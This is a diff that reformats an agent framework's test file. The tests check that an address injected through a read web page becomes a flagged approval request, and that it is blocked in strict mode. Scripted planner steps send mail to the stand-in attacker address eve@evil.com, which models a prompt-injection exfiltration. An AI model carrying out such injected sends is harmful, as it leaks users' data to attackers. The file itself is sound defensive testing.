@@ -10,8 +10,8 @@ from acc import (
     EventKind,
     InvalidTree,
     ModelRequest,
-    RunResult,
     Runner,
+    RunResult,
     ToolLabels,
     approve,
     deny,
@@ -81,7 +81,10 @@ class Planner:
 
 
 async def run(
-    desk: Desk, model: Planner, message: str = "Read www.news.com and mail bob@corp.com", **options: Any
+    desk: Desk,
+    model: Planner,
+    message: str = "Read www.news.com and mail bob@corp.com",
+    **options: Any,
 ) -> RunResult[str]:
     options.setdefault("flow", "ask")
     agent = Agent(name="desk", model=model, tools=desk.tools(), memory=None, **options)
@@ -118,9 +121,7 @@ async def test_injected_address_becomes_one_editable_approval_with_origin() -> N
     assert request.arguments == {"to": "eve@evil.com", "body": "hi"}
     assert "eve@evil.com" in request.message
     assert "untrusted result of read_page" in request.message
-    result = await runner.resume(
-        [approve(request, arguments={"to": "bob@corp.com", "body": "hi"})]
-    )
+    result = await runner.resume([approve(request, arguments={"to": "bob@corp.com", "body": "hi"})])
     assert result.text == "done"
     assert desk.sent == [("bob@corp.com", "hi")]
 
@@ -220,9 +221,7 @@ async def test_text_field_of_such_a_record_is_not_an_address_field() -> None:
 async def test_record_found_with_untrusted_value_issues_no_addresses() -> None:
     desk = Desk()
     steps = (READ, call("find_contact", name="Zed"), call("send", to="bob@corp.com", body="hi"))
-    await run(
-        desk, Planner(planned("send"), *steps, "done"), "Read www.news.com", flow="strict"
-    )
+    await run(desk, Planner(planned("send"), *steps, "done"), "Read www.news.com", flow="strict")
     assert desk.sent == []
 
 
@@ -248,7 +247,9 @@ async def test_approved_value_is_not_asked_again_for_the_same_tool() -> None:
 
 async def test_policy_holds_in_the_next_turn_of_the_session() -> None:
     desk = Desk()
-    model = Planner(planned("send"), READ, "a page", call("send", to="eve@evil.com", body="x"), "ok")
+    model = Planner(
+        planned("send"), READ, "a page", call("send", to="eve@evil.com", body="x"), "ok"
+    )
     runner = Runner(Agent(name="desk", model=model, tools=desk.tools(), flow="strict"))
     await runner.run("Read www.news.com")
     await runner.run("Now mail it to bob@corp.com")
